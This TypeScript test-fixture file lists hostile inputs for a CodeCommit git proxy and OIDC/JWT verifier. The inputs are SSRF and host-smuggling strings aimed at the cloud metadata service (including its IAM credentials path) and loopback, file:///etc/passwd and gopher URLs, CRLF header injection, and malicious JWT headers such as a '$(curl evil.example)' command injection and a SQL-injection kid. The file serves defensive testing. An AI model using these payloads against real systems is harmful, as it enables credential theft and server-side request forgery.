/** Texts in positions that a host is built from, or could be taken from. A latin1 character is one byte on the wire. */

const HOST = "git-codecommit.eu-west-1.amazonaws.com";

/** Invalid regions. */
export const REGIONS = {
  "a host behind it": "eu-west-1.evil.example",
  "a host behind an at sign": "eu-west-1@evil.example",
  "a host behind an escaped at sign": "eu-west-1%40evil.example",
  "a host behind a full stop of CJK": "eu-west-1%e3%80%82evil.example",
  "a host behind an escaped fragment": "evil.example%23",
  "a host behind an escaped query": "evil.example%3f",
  "only a host": "evil.example",
  "a dot behind it": "eu-west-1.",
  "an escaped dot behind it": "eu-west-1%2e",
  "a port": "eu-west-1:8080",
  "an escaped port": "eu-west-1%3a8080",
  "an escaped NUL": "eu-west-1%00",
  "an escaped slash": "eu-west-1%2f",
  "an escaped slash and a dot segment": "eu-west-1%2f..",
  "a backslash": "eu-west-1\\",
  "an escaped line break": "eu-west-1%0d%0aHost:%20evil.example",
  "an escaped tab": "eu-west-1%09",
  "an escaped space": "eu-west-1%20",
  "a comma": "eu-west-1,us-east-1",
  "a path parameter": "eu-west-1;x=1",
  "an escaped letter": "%65u-west-1",
  "capitals": "EU-WEST-1",
  "a digit of another script": "eu-west-\xd9\xa1",
  "a digit of full width": "eu-west-%ef%bc%91",
  "a letter that only looks like one": "eu-west-1%d0%b0",
  "punycode": "xn--eu-west-1-",
  "40 letters": `eu-${"a".repeat(40)}-1`,
  "60,000 letters": `eu-${"a".repeat(60_000)}-1`,
  "32 digits": `eu-west-${"9".repeat(32)}`,
  "no letters": "eu--1",
  "no number": "eu-west-",
  "an isolated region, which has no public host": "us-iso-east-1",
  "loopback": "127.0.0.1",
  "loopback, shortened and in hexadecimal": "0x7f.1",
  "loopback as one number": "2130706433",
  "loopback of IPv6": "[::1]",
  "this machine": "localhost",
  "the metadata service": "169.254.169.254",
};

/** Replacements for CodeCommit's host, in the path and in the query form. */
export const HOSTS = {
  "the metadata service": "169.254.169.254",
  "a foreign host": "evil.example",
  "one that begins like CodeCommit's": `${HOST}.evil.example`,
  "one that begins like CodeCommit's, by an escape": `${HOST}%2eevil.example`,
  "one that ends like CodeCommit's": `evil.example.${HOST}`,
  "one that ends like CodeCommit's, without a dot": `evil${HOST}`,
  "one with a region that is a host": "git-codecommit.evil.example",
  "one of CodeCommit's as user name": `${HOST}@evil.example`,
  "one of CodeCommit's as user name, by an escape": `${HOST}%40evil.example`,
  "one of CodeCommit's in a fragment": `evil.example%23${HOST}`,
  "one of CodeCommit's behind a NUL": `${HOST}%00.evil.example`,
  "a backslash and a foreign one": `${HOST}\\@evil.example`,
  "a port": `${HOST}:443`,
  "a port of another service": `${HOST}:22`,
  "a dot at the end": `${HOST}.`,
  "capitals": HOST.toUpperCase(),
  "STS": "sts.eu-west-1.amazonaws.com",
  "CodeCommit's other API": "codecommit.eu-west-1.amazonaws.com",
  "S3": "s3.eu-west-1.amazonaws.com",
  "China's suffix elsewhere": `${HOST}.cn`,
  "China without its suffix": "git-codecommit.cn-north-1.amazonaws.com",
  "a VPC endpoint": "vpce-0123456789abcdef0-abcdefgh.git-codecommit.eu-west-1.vpce.amazonaws.com",
};

/** Replacements for CodeCommit's URL in the query form, and whether the response is a refusal or the home page. */
export const URLS = {
  "plain HTTP": ["refused", `http://${HOST}/v1/repos/app`],
  "FTP": ["refused", `ftp://${HOST}/v1/repos/app`],
  "a file": ["refused", "file:///etc/passwd"],
  "Gopher": ["refused", "gopher://127.0.0.1:25/_HELO"],
  "capitals": ["refused", `HTTPS://${HOST}/v1/repos/app`],
  "three slashes": ["refused", `https:///${HOST}/v1/repos/app`],
  "the metadata service": ["refused", "https://169.254.169.254/latest/meta-data"],
  "a parameter": ["refused", "url=https://169.254.169.254/"],
  "one slash": ["home", `https:/${HOST}/v1/repos/app`],
  "no scheme": ["home", `//${HOST}/v1/repos/app`],
  "escapes": ["home", `https%3a%2f%2f${HOST}/v1/repos/app`],
};

/** Request targets that contain a host: each request goes to the repository in its path. */
export const ABSOLUTE_TARGETS = {
  "a foreign host": "http://evil.example/eu-west-1/app",
  "a foreign host and a user name": "http://user:password@evil.example/eu-west-1/app",
  "a foreign host and an invalid port": "http://evil.example:99999/eu-west-1/app",
  "the metadata service": "http://169.254.169.254/eu-west-1/app",
  "another scheme": "gopher://evil.example/eu-west-1/app",
  "another region's CodeCommit": "https://git-codecommit.us-east-1.amazonaws.com/v1/repos/app",
};

/** Values of `Host` that do not change the destination, and whether they are valid host names or rejected. */
export const HOST_HEADERS = {
  "a foreign host": ["name", "evil.example"],
  "the metadata service": ["name", "169.254.169.254"],
  "another region's CodeCommit": ["name", "git-codecommit.us-east-1.amazonaws.com"],
  "an invalid port": ["refused", "evil.example:99999"],
  "a user name": ["refused", `a@${HOST}`],
  "half an address of IPv6": ["refused", "[::1"],
  "an escape": ["refused", "e%00vil.example"],
  "a space": ["refused", "a b"],
  "bytes over ASCII": ["refused", "\xe2\x93\x94vil.example"],
};

const ISSUER = "https://login.example.com";

/** Discovery documents with addresses that an issuer must not use. */
export const DISCOVERIES = {
  "the metadata service": { issuer: ISSUER, jwks_uri: "http://169.254.169.254/latest/meta-data/iam" },
  "loopback": { issuer: ISSUER, jwks_uri: "http://127.0.0.1/jwks" },
  "loopback by its name": { issuer: ISSUER, jwks_uri: "http://localhost:8080/jwks" },
  "its own host, in the clear": { issuer: ISSUER, jwks_uri: "http://login.example.com/jwks" },
  "a file": { issuer: ISSUER, jwks_uri: "file:///etc/passwd" },
  "data": { issuer: ISSUER, jwks_uri: 'data:application/json,{"keys":[]}' },
  "only a path": { issuer: ISSUER, jwks_uri: "/jwks" },
  "no scheme": { issuer: ISSUER, jwks_uri: "//evil.example/jwks" },
  "a foreign host behind a user name": { issuer: ISSUER, jwks_uri: `${ISSUER}@evil.example/jwks` },
  "a foreign host behind a backslash": { issuer: ISSUER, jwks_uri: `${ISSUER}\\@evil.example/jwks` },
  "a line break": { issuer: ISSUER, jwks_uri: `${ISSUER}/jwks\r\nHost: evil.example` },
  "a list": { issuer: ISSUER, jwks_uri: ["https://evil.example/jwks"] },
  "another issuer": { issuer: "https://evil.example", jwks_uri: `${ISSUER}/jwks` },
  "the issuer in capitals": { issuer: ISSUER.toUpperCase(), jwks_uri: `${ISSUER}/jwks` },
  "the issuer and a slash": { issuer: `${ISSUER}/`, jwks_uri: `${ISSUER}/jwks` },
};

/** JWT header fields that point to a key of the sender's choice. */
export const TOKEN_HEADERS = {
  "jku": { jku: "https://evil.example/jwks" },
  "jku at the metadata service": { jku: "http://169.254.169.254/latest/meta-data" },
  "x5u": { x5u: "https://evil.example/certificate.pem" },
  "iss in the header": { iss: "https://evil.example" },
  "a kid that is a URL": { kid: "https://evil.example/key" },
  "a kid that is a path": { kid: "../../../../dev/null" },
  "a kid with a NUL": { kid: "key\0" },
  "a kid of SQL": { kid: "x' UNION SELECT 'key" },
  "a kid of a command": { kid: "$(curl evil.example)" },
  "a kid of 10 KB": { kid: "k".repeat(10_000) },
  "a kid of an object's prototype": { kid: "__proto__" },
};

/** `Location` and other headers with which an upstream could redirect a client. */
export const DIRECTIONS = {
  "the metadata service": { location: "http://169.254.169.254/latest/meta-data/iam/security-credentials/" },
  "a foreign host": { location: "https://evil.example/v1/repos/app" },
  "a foreign host without a scheme": { location: "//evil.example/" },
  "itself": { location: "/v1/repos/app/info/refs?service=git-upload-pack" },
  "a file": { location: "file:///etc/passwd" },
  "a script": { location: "javascript:alert(1)" },
  "a refresh": { location: "", refresh: "0; url=https://evil.example/" },
};
